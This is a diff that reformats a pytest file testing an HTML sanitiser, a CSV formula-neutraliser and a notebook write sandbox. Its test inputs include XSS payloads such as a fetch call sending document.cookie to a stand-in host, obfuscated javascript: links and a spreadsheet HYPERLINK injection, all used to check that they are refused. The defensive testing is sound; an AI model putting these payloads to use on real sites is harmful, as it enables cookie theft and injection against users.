@@ -24,28 +24,44 @@ PAGE = "<html><body><p>ok</p>{}</body></html>"
 @pytest.mark.parametrize(
     ("fragment", "problem"),
     [
-        ('<a href="javascript:alert(document.cookie)">source</a>',
-         "a link with the scheme `javascript:`"),
+        (
+            '<a href="javascript:alert(document.cookie)">source</a>',
+            "a link with the scheme `javascript:`",
+        ),
         ('<a href="JaVa&#x09;Script:alert(1)">source</a>', "a link with the scheme `javascript:`"),
         ('<a href="data:text/html;base64,PHNjcmlwdD4=">open</a>', "a link with the scheme `data:`"),
         ('<img src="http://track.example/p.gif">', "a resource loaded from outside the page"),
-        ('<img srcset="data:image/png;base64,AA 1x, //track.example/p.gif 2x">',
-         "a resource loaded from outside the page"),
+        (
+            '<img srcset="data:image/png;base64,AA 1x, //track.example/p.gif 2x">',
+            "a resource loaded from outside the page",
+        ),
         ('<iframe src="https://example.org/"></iframe>', "a resource loaded from outside the page"),
-        ('<link rel="stylesheet" href="https://fonts.example/f.css">',
-         "a resource loaded from outside the page"),
-        ('<div style="background:url(https://x.example/b.png)">x</div>',
-         "a resource loaded from outside the page"),
-        ("<style>@import 'https://x.example/a.css';</style>",
-         "a resource loaded from outside the page"),
-        ("<script>fetch('https://x.example/?c=' + document.cookie)</script>",
-         "a script that requests a URL (fetch)"),
-        ("<script>var r = new XMLHttpRequest(); r.open('GET', '//x.example/')</script>",
-         "a script that requests a URL (XMLHttpRequest)"),
-        ('<script>vegaEmbed("#a", {"data": {"url": "https://x.example/d.csv"}})</script>',
-         "a script that requests a URL"),
+        (
+            '<link rel="stylesheet" href="https://fonts.example/f.css">',
+            "a resource loaded from outside the page",
+        ),
+        (
+            '<div style="background:url(https://x.example/b.png)">x</div>',
+            "a resource loaded from outside the page",
+        ),
+        (
+            "<style>@import 'https://x.example/a.css';</style>",
+            "a resource loaded from outside the page",
+        ),
+        (
+            "<script>fetch('https://x.example/?c=' + document.cookie)</script>",
+            "a script that requests a URL (fetch)",
+        ),
+        (
+            "<script>var r = new XMLHttpRequest(); r.open('GET', '//x.example/')</script>",
+            "a script that requests a URL (XMLHttpRequest)",
+        ),
+        (
+            '<script>vegaEmbed("#a", {"data": {"url": "https://x.example/d.csv"}})</script>',
+            "a script that requests a URL",
+        ),
     ],
-)  # fmt: skip
+)
 def test_a_page_that_could_reach_the_network_is_refused(fragment: str, problem: str) -> None:
     problems = check_html(PAGE.format(fragment))
     assert len(problems) == 1 and problems[0].startswith(problem), problems
@@ -96,11 +112,20 @@ def test_a_javascript_url_in_a_plan_is_refused_at_load(tmp_path: Path) -> None:
 
 
 def test_formula_cells_of_a_chart_csv_are_neutralised_and_numbers_kept() -> None:
-    data = pl.DataFrame({
-        "label": ['=HYPERLINK("http://x.example","5G")', "+86 22", "-1+2", "@SUM(A1)",
-                  "\tcmd", "-3.5", "天津"],
-        "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, -7.25],
-    })  # fmt: skip
+    data = pl.DataFrame(
+        {
+            "label": [
+                '=HYPERLINK("http://x.example","5G")',
+                "+86 22",
+                "-1+2",
+                "@SUM(A1)",
+                "\tcmd",
+                "-3.5",
+                "天津",
+            ],
+            "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, -7.25],
+        }
+    )
     rows = list(csv.reader(io.StringIO(chart_csv(data).removeprefix("\ufeff"))))
     assert rows == [
         ["label", "value"],
@@ -115,10 +140,12 @@ def test_formula_cells_of_a_chart_csv_are_neutralised_and_numbers_kept() -> None
 
 
 def _writer(tmp_path: Path) -> Path:
-    nb = new_notebook(cells=[
-        new_code_cell('target = ""', metadata={"tags": ["parameters"]}),
-        new_code_cell('open("inside.txt", "w").write("fine")\nopen(target, "w").write("leak")'),
-    ])  # fmt: skip
+    nb = new_notebook(
+        cells=[
+            new_code_cell('target = ""', metadata={"tags": ["parameters"]}),
+            new_code_cell('open("inside.txt", "w").write("fine")\nopen(target, "w").write("leak")'),
+        ]
+    )
     nb.metadata["kernelspec"] = {
         "name": "python3",
         "display_name": "Python 3",
